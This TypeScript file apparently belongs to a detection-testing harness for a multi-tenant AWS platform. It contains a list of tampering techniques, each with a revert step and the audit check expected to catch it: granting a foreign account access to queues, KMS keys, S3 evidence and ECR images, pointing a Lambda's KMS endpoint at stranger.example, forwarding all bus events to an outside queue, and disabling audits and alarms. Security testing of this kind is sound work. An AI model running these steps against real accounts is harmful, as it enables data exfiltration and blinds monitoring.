import { DescribeStackResourcesCommand } from '@aws-sdk/client-cloudformation';
import {
  DeleteAlarmsCommand,
  DescribeAlarmsCommand,
  type MetricAlarm,
  PutMetricAlarmCommand,
} from '@aws-sdk/client-cloudwatch';
import { DeleteRepositoryPolicyCommand, SetRepositoryPolicyCommand } from '@aws-sdk/client-ecr';
import {
  DeleteRuleCommand,
  DescribeRuleCommand,
  DisableRuleCommand,
  EnableRuleCommand,
  ListRulesCommand,
  PutRuleCommand,
  PutTargetsCommand,
  RemoveTargetsCommand,
} from '@aws-sdk/client-eventbridge';
import { GetKeyPolicyCommand, PutKeyPolicyCommand } from '@aws-sdk/client-kms';
import {
  CreateEventSourceMappingCommand,
  CreateFunctionCommand,
  DeleteEventSourceMappingCommand,
  DeleteFunctionCommand,
  GetFunctionCommand,
  paginateListFunctions,
  UpdateFunctionCodeCommand,
  UpdateFunctionConfigurationCommand,
} from '@aws-sdk/client-lambda';
import { DeleteBucketPolicyCommand, GetBucketPolicyCommand, PutBucketPolicyCommand } from '@aws-sdk/client-s3';
import { DescribeStateMachineCommand, ListStateMachinesCommand, UpdateStateMachineCommand } from '@aws-sdk/client-sfn';
import {
  CreateQueueCommand,
  DeleteQueueCommand,
  GetQueueAttributesCommand,
  SetQueueAttributesCommand,
} from '@aws-sdk/client-sqs';
import {
  functionRoleName,
  platformStackName,
  SERVICE_REPOSITORY,
  tenantIdIn,
} from '../../../functions/contract/naming';
import { everyItem } from '../../../functions/shared/paging';
import type { SharedScene, SharedTechnique } from '../surroundings-target';
import { type Revert, STRANGER, STRANGERS_ROOT } from '../technique';

const forStranger = (Action: string, Resource: string) => ({
  ...{ Sid: 'Support', Effect: 'Allow', Principal: { AWS: STRANGERS_ROOT }, Action, Resource },
});
const withStatement = (policy: string, statement: object) => {
  const { Statement = [], ...rest } = JSON.parse(policy);
  return JSON.stringify({ ...rest, Statement: [...Statement, statement] });
};

/** The physical id of a stack's resource, by a part of its logical id. */
export async function resourceOf({ root }: SharedScene, stack: string, type: string, part: string): Promise<string> {
  const { StackResources = [] } = await root.cloudformation.send(
    new DescribeStackResourcesCommand({ StackName: platformStackName(stack) }),
  );
  const found = StackResources.find(
    ({ ResourceType, LogicalResourceId = '' }) => ResourceType === type && LogicalResourceId.startsWith(part),
  );
  if (!found?.PhysicalResourceId) throw new Error(`stack ${stack} has no ${type} ${part}`);
  return found.PhysicalResourceId;
}

export async function functionOf({ root: { lambda } }: SharedScene, action: string) {
  const functions = await everyItem(paginateListFunctions({ client: lambda }, {}), ({ Functions }) => Functions);
  const found = functions.find(({ Role }) => Role?.endsWith(`/${functionRoleName(action)}`));
  if (!found) throw new Error(`${action} is not deployed`);
  return found;
}

const queue = (name: string, part: string, Action: string): SharedTechnique => ({
  name,
  check: 'platform.permissions',
  detonate: async (scene) => {
    const { sqs } = scene.root;
    const QueueUrl = await resourceOf(scene, 'ControlPlane', 'AWS::SQS::Queue', part);
    const { Attributes } = await sqs.send(new GetQueueAttributesCommand({ QueueUrl, AttributeNames: ['Policy'] }));
    const before = Attributes?.Policy ?? '';
    const set = (Policy: string) => sqs.send(new SetQueueAttributesCommand({ QueueUrl, Attributes: { Policy } }));
    await set(withStatement(before, forStranger(Action, '*')));
    return { expectedEvidence: 'has the statement Allow Support', revert: () => set(before) };
  },
});

type Configuration = Awaited<ReturnType<typeof functionOf>>;
type Change = (configuration: Configuration) => object;
const setting = (name: string, action: string, change: Change, expectedEvidence: string): SharedTechnique => ({
  name,
  check: 'platform.functions',
  detonate: async (scene) => {
    const { lambda } = scene.root;
    const before = await functionOf(scene, action);
    const { FunctionName, Environment, Role, Runtime, LoggingConfig } = before;
    const { DeadLetterConfig = { TargetArn: '' }, KMSKeyArn = '' } = before;
    const Layers = (before.Layers ?? []).flatMap(({ Arn }) => Arn ?? []);
    await lambda.send(new UpdateFunctionConfigurationCommand({ FunctionName, ...change(before) }));
    const former = { FunctionName, Environment: { Variables: Environment?.Variables ?? {} }, Role, Layers, Runtime };
    const revert = { ...former, LoggingConfig, DeadLetterConfig, KMSKeyArn, FileSystemConfigs: [] };
    return { expectedEvidence, revert: () => lambda.send(new UpdateFunctionConfigurationCommand(revert)) };
  },
});
const variable =
  (name: string, value: string): Change =>
  ({ Environment }) => ({ Environment: { Variables: { ...Environment?.Variables, [name]: value } } });

/** An empty ZIP archive: no code. */
export const EMPTY = Uint8Array.from([0x50, 0x4b, 5, 6, ...Array(18).fill(0)]);
const code = (action: string): SharedTechnique => ({
  name: `replace the code of ${action}`,
  check: 'audit.code',
  detonate: async (scene) => {
    const { lambda } = scene.root;
    const { FunctionName } = await functionOf(scene, action);
    const { Code } = await lambda.send(new GetFunctionCommand({ FunctionName }));
    const ZipFile = new Uint8Array(await (await fetch(Code?.Location ?? '')).arrayBuffer());
    await lambda.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile: EMPTY }));
    return {
      expectedEvidence: `the digest of the code of ${action} is`,
      revert: () => lambda.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile })),
    };
  },
});

interface Mapped {
  readonly FunctionName: string | undefined;
  readonly queue: string;
  readonly remove: Revert;
}

/** Calls a function with the records of a queue of the account; it begins when somebody enables it. */
const mapping = (name: string, prepare: (scene: SharedScene) => Promise<Mapped>): SharedTechnique => ({
  name,
  check: 'platform.functions',
  detonate: async (scene) => {
    const { accountId, region } = scene.surroundings;
    const { lambda } = scene.root;
    const { FunctionName, queue, remove } = await prepare(scene);
    const EventSourceArn = `arn:aws:sqs:${region}:${accountId}:${queue}`;
    const { UUID } = await lambda.send(
      new CreateEventSourceMappingCommand({ FunctionName, EventSourceArn, Enabled: false }),
    );
    const revert = async () => {
      await lambda.send(new DeleteEventSourceMappingCommand({ UUID }));
      await remove();
    };
    return { expectedEvidence: `mapping ${UUID} calls ${FunctionName} with the records of ${EventSourceArn}`, revert };
  },
});

const repository = (name: string, Action: string): SharedTechnique => ({
  name,
  check: 'platform.images',
  detonate: async ({ root: { ecr } }) => {
    const repositoryName = SERVICE_REPOSITORY;
    const { Resource: _, ...statement } = forStranger(Action, '*');
    const policyText = JSON.stringify({ Version: '2012-10-17', Statement: [statement] });
    await ecr.send(new SetRepositoryPolicyCommand({ repositoryName, policyText }));
    return {
      expectedEvidence: `has the statement Allow Support for AWS:${STRANGERS_ROOT}`,
      revert: () => ecr.send(new DeleteRepositoryPolicyCommand({ repositoryName })),
    };
  },
});

const machine = (name: string, called: string, change: (definition: string) => string): SharedTechnique => ({
  name,
  check: 'audit.machines',
  detonate: async ({ root: { sfn } }) => {
    const { stateMachines = [] } = await sfn.send(new ListStateMachinesCommand({}));
    const stateMachineArn = stateMachines.find((each) => each.name === called)?.stateMachineArn;
    const { definition = '' } = await sfn.send(new DescribeStateMachineCommand({ stateMachineArn }));
    const put = (changed: string) => sfn.send(new UpdateStateMachineCommand({ stateMachineArn, definition: changed }));
    await put(change(definition));
    return {
      expectedEvidence: `${called} has another definition than that of the release`,
      revert: () => put(definition),
    };
  },
});

async function ruleLike({ root: { events } }: SharedScene, part: string, EventBusName?: string): Promise<string> {
  const { Rules = [] } = await events.send(new ListRulesCommand({ EventBusName }));
  const found = Rules.find(({ Name = '' }) => Name.includes(part));
  if (!found?.Name) throw new Error(`no rule is called like ${part}`);
  return found.Name;
}

const disabledRule = (
  name: string,
  part: string,
  bus: (scene: SharedScene) => string | undefined,
): SharedTechnique => ({
  name,
  check: 'audit.rules',
  detonate: async (scene) => {
    const { events } = scene.root;
    const EventBusName = bus(scene);
    const Name = await ruleLike(scene, part, EventBusName);
    await events.send(new DisableRuleCommand({ Name, EventBusName }));
    return {
      expectedEvidence: `the state of rule ${Name} is DISABLED`,
      revert: () => events.send(new EnableRuleCommand({ Name, EventBusName })),
    };
  },
});
const ofPlatform = ({ surroundings }: SharedScene) => surroundings.busName;

async function firstAlarm({ surroundings, root: { cloudwatch } }: SharedScene): Promise<MetricAlarm> {
  const { MetricAlarms = [] } = await cloudwatch.send(new DescribeAlarmsCommand({}));
  const found = MetricAlarms.find(
    ({ AlarmName = '', AlarmActions = [], MetricName }) =>
      AlarmActions.includes(surroundings.topicArn) && MetricName !== undefined && tenantIdIn(AlarmName) === undefined,
  );
  if (!found) throw new Error('no alarm acts on the topic');
  return found;
}

const alarm = (
  name: string,
  change: (before: MetricAlarm) => Partial<MetricAlarm>,
  evidence: (alarmName: string | undefined) => string,
): SharedTechnique => ({
  name,
  check: 'audit.alarms',
  detonate: async (scene) => {
    const before = await firstAlarm(scene);
    const put = (changed: MetricAlarm) =>
      scene.root.cloudwatch.send(new PutMetricAlarmCommand({ ...changed } as PutMetricAlarmCommand['input']));
    await put({ ...before, ...change(before) });
    return { expectedEvidence: evidence(before.AlarmName), revert: () => put(before) };
  },
});

const keyFor = (name: string, check: string, part: string): SharedTechnique => ({
  name,
  check,
  detonate: async (scene) => {
    const { kms } = scene.root;
    const KeyId = await resourceOf(scene, 'Foundation', 'AWS::KMS::Key', part);
    const { Policy = '' } = await kms.send(new GetKeyPolicyCommand({ KeyId, PolicyName: 'default' }));
    const put = (policy: string) => kms.send(new PutKeyPolicyCommand({ KeyId, PolicyName: 'default', Policy: policy }));
    await put(withStatement(Policy, forStranger('kms:Decrypt', '*')));
    return {
      expectedEvidence: `has the statement Allow Support for AWS:${STRANGERS_ROOT}`,
      revert: () => put(Policy),
    };
  },
});

export const PLATFORM_TECHNIQUES: readonly SharedTechnique[] = [
  queue('let another account read signups that were not delivered', 'SignupIntakeUndelivered', 'sqs:ReceiveMessage'),
  queue('let another account read events that nobody has matched', 'UnmatchedEventsKept', 'sqs:ReceiveMessage'),
  setting(
    'send the calls of VerifyIsolation to a stranger’s endpoint',
    'VerifyIsolation',
    variable('AWS_ENDPOINT_URL_KMS', 'https://stranger.example'),
    'AWS_ENDPOINT_URL_KMS=https://stranger.example is unexpected',
  ),
  setting(
    'place whatever a stranger likes, by a variable of AuditTenant',
    'AuditTenant',
    variable('PLACED_BY_ORGANIZATION', '{"endpointServices":["*"],"keyUsers":["*"]}'),
    'variable of TenantOnboarding-ControlPlane-AuditTenant',
  ),
  setting(
    'give SuspendTenant another table',
    'SuspendTenant',
    variable('TABLE_NAME', 'theirs'),
    'TABLE_NAME=theirs is unexpected',
  ),
  setting(
    'let ResumeTenant run as CreateTenantKey',
    'ResumeTenant',
    ({ Role = '' }) => ({ Role: Role.replace('ResumeTenant', 'CreateTenantKey') }),
    'CreateTenantKey, not',
  ),
  setting(
    'write the log of VerifyIsolation where nobody looks',
    'VerifyIsolation',
    () => ({ LoggingConfig: { LogFormat: 'JSON', LogGroup: '/support' } }),
    'is /support, not',
  ),
  setting(
    'run AuditTenant under a runtime without updates',
    'AuditTenant',
    () => ({ Runtime: 'nodejs20.x' }),
    'is nodejs20.x, not',
  ),
  setting(
    'mount a stranger’s file system in PrepareDatabase',
    'PrepareDatabase',
    () => ({
      FileSystemConfigs: [
        { Arn: 'arn:aws:elasticfilesystem:r:999999999999:access-point/fsap-1', LocalMountPath: '/mnt/x' },
      ],
    }),
    'mounts the file system arn:aws:elasticfilesystem',
  ),
  setting(
    'let AuditTenant log fatal errors only',
    'AuditTenant',
    ({ LoggingConfig }) => ({
      LoggingConfig: { ...LoggingConfig, LogFormat: 'JSON', ApplicationLogLevel: 'FATAL', SystemLogLevel: 'WARN' },
    }),
    'logs only what is FATAL or worse',
  ),
  setting(
    'put the variables of SuspendTenant under a stranger’s key',
    'SuspendTenant',
    () => ({ KMSKeyArn: `arn:aws:kms:eu-central-1:${STRANGER}:key/12345678-1234-1234-1234-123456789012` }),
    `is arn:aws:kms:eu-central-1:${STRANGER}:key/`,
  ),
  setting(
    'hand the events that VerifyIsolation fails on to somebody’s queue',
    'VerifyIsolation',
    // "DeadLetterConfig": Lambda takes a target of the function's own account and Region.
    ({ FunctionArn = '' }) => ({
      DeadLetterConfig: { TargetArn: FunctionArn.replace(/:lambda:(.*):function:.*/, ':sqs:$1:theirs') },
    }),
    ':theirs, not undefined',
  ),
  setting(
    'lose the events that AlarmRaised fails on',
    'AlarmRaised',
    () => ({ DeadLetterConfig: { TargetArn: '' } }),
    'is absent, not arn:aws:sqs',
  ),
  mapping('call Sweep with the records of somebody’s queue', async (scene) => {
    const { sqs } = scene.root;
    const { QueueUrl } = await sqs.send(new CreateQueueCommand({ QueueName: 'theirs' }));
    const { FunctionName } = await functionOf(scene, 'Sweep');
    return { FunctionName, queue: 'theirs', remove: () => sqs.send(new DeleteQueueCommand({ QueueUrl })) };
  }),
  mapping('have a function of a stranger read events that nobody has matched', async (scene) => {
    const { lambda } = scene.root;
    const FunctionName = 'support';
    const { Role, Runtime, Handler } = await functionOf(scene, 'Sweep');
    await lambda.send(new CreateFunctionCommand({ FunctionName, Role, Runtime, Handler, Code: { ZipFile: EMPTY } }));
    const url = await resourceOf(scene, 'ControlPlane', 'AWS::SQS::Queue', 'UnmatchedEventsKept');
    const queue = url.split('/').at(-1) ?? '';
    return { FunctionName, queue, remove: () => lambda.send(new DeleteFunctionCommand({ FunctionName })) };
  }),
  code('VerifyIsolation'),
  code('AuditTenant'),
  ...['PrepareDatabase', 'AskDatabase-c1', 'SetUpDatabase-c1', 'ReserveTenant', 'PublishCompletion', 'PerformAct'].map(
    code,
  ),
  machine('let the audit pass over tenants', 'TenantIsolationAudit', (definition) =>
    definition.replace('"Comment":"', '"Comment":"(changed) ').replace('"Comment": "', '"Comment": "(changed) '),
  ),
  machine('let an onboarding wait a minute less', 'TenantOnboarding', (definition) =>
    definition.replace(/"TimeoutSeconds":\s*(\d+)/, '"TimeoutSeconds": 1$1'),
  ),
  machine('retry nothing in the audit', 'TenantIsolationAudit', (definition) =>
    definition.replace(/"MaxAttempts":\s*20/g, '"MaxAttempts": 1'),
  ),
  disabledRule('disable the daily audit', 'AuditDaily', () => undefined),
  disabledRule('disable the sweep', 'SweepingSweep', () => undefined),
  disabledRule('take no signups any more', 'SignupIntake', ofPlatform),
  {
    name: 'audit once a year',
    check: 'audit.rules',
    detonate: async (scene) => {
      const { events } = scene.root;
      const Name = await ruleLike(scene, 'AuditDaily');
      const { ScheduleExpression, Description } = await events.send(new DescribeRuleCommand({ Name }));
      await events.send(new PutRuleCommand({ Name, ScheduleExpression: 'rate(365 days)', Description }));
      return {
        expectedEvidence: `the schedule of rule ${Name} is rate(365 days)`,
        revert: () => events.send(new PutRuleCommand({ Name, ScheduleExpression, Description })),
      };
    },
  },
  {
    name: 'send every event of the bus to a stranger',
    check: 'audit.rules',
    detonate: async ({ surroundings: { busName: EventBusName, region }, root: { events } }) => {
      const rule = { Name: 'support', EventBusName };
      const EventPattern = JSON.stringify({ source: [{ prefix: '' }] });
      await events.send(new PutRuleCommand({ ...rule, EventPattern }));
      const Arn = `arn:aws:sqs:${region}:${STRANGER}:theirs`;
      await events.send(new PutTargetsCommand({ Rule: rule.Name, EventBusName, Targets: [{ Id: '1', Arn }] }));
      const revert = async () => {
        await events.send(new RemoveTargetsCommand({ Rule: rule.Name, EventBusName, Ids: ['1'] }));
        await events.send(new DeleteRuleCommand(rule));
      };
      return { expectedEvidence: `rule support of ${EventBusName} takes events`, revert };
    },
  },
  {
    name: 'send each signup to a stranger’s queue, too',
    check: 'audit.rules',
    detonate: async (scene) => {
      const { busName: EventBusName, region } = scene.surroundings;
      const { events } = scene.root;
      const Rule = await ruleLike(scene, 'SignupIntake', EventBusName);
      const Arn = `arn:aws:sqs:${region}:${STRANGER}:theirs`;
      await events.send(new PutTargetsCommand({ Rule, EventBusName, Targets: [{ Id: 'support', Arn }] }));
      return {
        expectedEvidence: `target of rule ${Rule}: ${Arn} is unexpected`,
        revert: () => events.send(new RemoveTargetsCommand({ Rule, EventBusName, Ids: ['support'] })),
      };
    },
  },
  alarm(
    'let an alarm ring for nobody',
    () => ({ AlarmActions: [] }),
    (name) => `action of alarm ${name}`,
  ),
  alarm(
    'tell a stranger when an alarm rings no more',
    () => ({ OKActions: [`arn:aws:sns:eu-central-1:${STRANGER}:theirs`] }),
    (name) => `${STRANGER}:theirs hears when alarm ${name}`,
  ),
  alarm(
    'let an alarm ring at a thousand',
    () => ({ Threshold: 1000 }),
    (name) => `Threshold of alarm ${name} is 1000`,
  ),
  alarm(
    'let an alarm look at another metric',
    () => ({ MetricName: 'Nothing' }),
    (name) => `MetricName of alarm ${name} is Nothing`,
  ),
  alarm(
    'let an alarm look at another function',
    () => ({ Dimensions: [{ Name: 'FunctionName', Value: 'nothing' }] }),
    (name) => `dimension of alarm ${name}: FunctionName nothing is unexpected`,
  ),
  {
    name: 'delete an alarm',
    check: 'audit.alarms',
    detonate: async (scene) => {
      const { cloudwatch } = scene.root;
      const before = await firstAlarm(scene);
      await cloudwatch.send(new DeleteAlarmsCommand({ AlarmNames: [before.AlarmName ?? ''] }));
      return {
        expectedEvidence: `alarm ${before.AlarmName} does not exist`,
        revert: () => cloudwatch.send(new PutMetricAlarmCommand({ ...before } as PutMetricAlarmCommand['input'])),
      };
    },
  },
  repository('let another account pull the service’s images', 'ecr:BatchGetImage'),
  repository('let another account push the service’s images', 'ecr:PutImage'),
  keyFor('let another account decrypt the evidence', 'platform.evidence', 'EvidenceKey'),
  keyFor('let another account decrypt the tenants table', 'platform.table', 'TenantsKey'),
  {
    name: 'let another account read the evidence',
    check: 'platform.evidence',
    detonate: async ({ surroundings: { evidenceBucketName: Bucket }, root: { s3 } }) => {
      const { Policy = '' } = await s3.send(new GetBucketPolicyCommand({ Bucket }));
      const put = (policy: string) => s3.send(new PutBucketPolicyCommand({ Bucket, Policy: policy }));
      await put(withStatement(Policy, forStranger('s3:GetObject', `arn:aws:s3:::${Bucket}/*`)));
      return {
        expectedEvidence: `has the statement Allow Support for AWS:${STRANGERS_ROOT}`,
        revert: () => put(Policy),
      };
    },
  },
  {
    name: 'take the evidence bucket its policy',
    check: 'platform.evidence',
    detonate: async ({ surroundings: { evidenceBucketName: Bucket }, root: { s3 } }) => {
      const { Policy = '' } = await s3.send(new GetBucketPolicyCommand({ Bucket }));
      await s3.send(new DeleteBucketPolicyCommand({ Bucket }));
      return {
        expectedEvidence: `the policy of ${Bucket} lacks the statement Deny`,
        revert: () => s3.send(new PutBucketPolicyCommand({ Bucket, Policy })),
      };
    },
  },
];
